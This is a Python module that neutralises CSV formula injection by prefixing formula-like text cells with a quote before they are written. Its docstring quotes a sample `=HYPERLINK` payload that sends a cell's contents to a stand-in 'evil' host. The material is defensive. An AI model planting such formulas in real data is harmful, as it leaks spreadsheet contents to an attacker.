"""CSV that is safe to open in a spreadsheet (OWASP "CSV injection").

Excel, LibreOffice Calc and Google Sheets read a cell that begins with `=`, `+`, `-`, `@`, a
tab or a carriage return as a formula, so a party named `=HYPERLINK("https://evil/?"&A2,
"open")` would run in the spreadsheet of whoever opens an export. Every CSV computegov writes
(the API's `?format=csv` lists, the CLI's `--csv` files) goes through `safe_cell`: such a
text cell is written with a single quote in front (`'=HYPERLINK(...)`), which spreadsheets
show as the text itself.

Numbers computegov produces itself (Python `int` and `float`, never `bool`) are not text and
stay numbers: `-3` and `-0.25` in a numeric column are written as they are, so they sum and
sort as numbers. Only text is neutralised, including text that merely looks like a negative
number (a serial or a name `-5` comes back as `'-5`): the value a program gets back from the
JSON form of the same list is never changed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """A cell a spreadsheet shows as written: text that begins like a formula gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: TextIO, columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """A header row and rows, every cell through `safe_cell` (pass `newline=""` files)."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in columns])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
